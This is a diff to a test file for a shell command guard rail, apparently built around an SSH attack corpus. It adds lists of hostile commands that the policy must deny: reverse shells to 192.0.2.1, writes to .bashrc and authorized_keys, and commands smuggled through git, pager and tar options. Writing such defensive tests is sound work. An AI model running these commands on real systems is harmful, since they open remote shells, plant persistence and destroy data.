@@ -39,8 +39,32 @@ describe("demo policy against the SSH attack corpus", async () => {
     }
   });
 
+  it("refuses writes that land on a protected path by a directory operand, --parents, or git", () => {
+    for (const line of [
+      "ln -s /tmp/x/.bashrc -t ~", "ln -sf /tmp/x/.bashrc ~", "cd /tmp/s && cp --parents .ssh/authorized_keys ~", "git clone /tmp/repo ~/.ssh",
+      "git clone -q /tmp/repo ~/.config/systemd/user", "git --work-tree=/home/ci --git-dir=/tmp/r/.git checkout -f", "git -C ~ checkout .",
+      "patch -p0 < /tmp/diff", "patch .bashrc < /tmp/diff", "xxd -r /tmp/x .bashrc", "gpg -o .bashrc -d /tmp/x", "echo x >> ~/.bash_completion", "echo x > /etc/bash_completion",
+      "7z x /tmp/x.7z -o/home/ci", "cd ~ && ar x /tmp/x.a", "dpkg -x /tmp/x.deb ~", "aria2c -d ~ http://x/.bashrc", "curl -K /tmp/cfg http://x", "chsh -s /tmp/evil",
+      "mkfifo ~/.bashrc", "systemd-tmpfiles --user --create /tmp/x.conf",
+    ]) {
+      expect(exec(line).effect, line).toBe("deny");
+    }
+  });
+
+  it("refuses programs that run a command named by an option, a variable or their configuration", () => {
+    for (const line of [
+      "GIT_PAGER='rm -rf /x' git log", "GIT_EXTERNAL_DIFF='rm -rf /x' git diff", "PAGER='rm -rf /x' git -p log", "HOME=/tmp/e git status", "TAR_OPTIONS=--to-command=sh tar -xf a.tar",
+      "man -P 'rm -rf /x' ls", "less +'!rm -rf /x' /etc/hostname", "git -C /tmp/r config core.fsmonitor 'rm -rf /x'", "git clone -u 'rm -rf /x' /tmp/r /tmp/d",
+      "git rebase -x 'rm -rf /x' HEAD~1", "git submodule foreach 'rm -rf /x'", "git bisect run rm -rf /x", "awk -F: -v x=1 -- 'BEGIN{system(\"rm -rf /x\")}'",
+      "[ -v 'a[$(rm -rf /x)]' ]", "unset 'a[$(rm -rf /x)]'", "nc -e /bin/sh 192.0.2.1 4444", "busybox nc -e /bin/sh 192.0.2.1 4444", "socat - SYSTEM:'rm -rf /x'",
+      "ncat -l 4444 --sh-exec 'rm -rf /x'", "busybox inotifyd /tmp/x /tmp", "rsync -a /tmp/evil localhost:.bashrc", "sqlite3 /tmp/db 'select 1'",
+    ]) {
+      expect(exec(line).effect, line).toBe("deny");
+    }
+  });
+
   it("still runs ordinary commands (the guard rail does not block everyday work)", () => {
-    for (const line of ["ls -la", "rm -f /tmp/x", "rm x.log", "echo hi > /tmp/x", "cat /etc/hostname", "git status", "systemctl status app", "rmdir d", "cp a b", "grep -r rm .", "mkdir -p /srv/app/releases/1", "cd /srv/app && ls", "sed -n 1p f", "awk '{print $1}' f", "tee /tmp/out", "journalctl -u app --since today"]) {
+    for (const line of ["ls -la", "rm -f /tmp/x", "rm x.log", "echo hi > /tmp/x", "cat /etc/hostname", "git status", "systemctl status app", "rmdir d", "cp a b", "grep -r rm .", "mkdir -p /srv/app/releases/1", "cd /srv/app && ls", "sed -n 1p f", "awk '{print $1}' f", "tee /tmp/out", "journalctl -u app --since today", "git -C /srv/app status", "git push -u origin main", "awk -F: '{print $1}' /etc/passwd", "echo ${!prefix*}", "find /tmp -name '*.log' -print", "rsync -a /srv/a/ /srv/b/", "ar t /tmp/x.a", "dpkg -l", "curl -fsS http://127.0.0.1/"]) {
       expect(exec(line).effect, line).toBe("allow");
     }
   });
